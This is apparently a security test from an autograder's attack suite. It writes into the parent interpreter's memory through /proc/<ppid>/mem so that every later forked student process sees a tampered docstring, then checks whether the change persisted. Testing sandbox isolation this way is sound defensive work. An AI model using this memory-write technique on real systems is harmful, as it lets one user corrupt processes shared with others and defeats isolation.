"""Write into the interpreter that every later student is forked from.

A fork has its parent's addresses: what stands where is known without a search.
"""

from tests.attacks.weakenings import no_sandbox

CODE = """
import os, sys
from autograder.student import Student
text = Student.__doc__
place = id(text) + sys.getsizeof(text) - len(text) - 1
with open(f'/proc/{os.getppid()}/mem', 'r+b', 0) as memory:
    memory.seek(place)
    if memory.read(8) == text.encode()[:8]:
        memory.seek(place)
        memory.write('@TAG@'[::-1].encode())
"""
CELLS = {"double": CODE}
NEXT = {
    "double": """
from autograder.student import Student
print(Student.__doc__)
"""
}
CONTROL = no_sandbox
NEEDS_ROOT = True


def succeeded(after):
    return after.next.proved
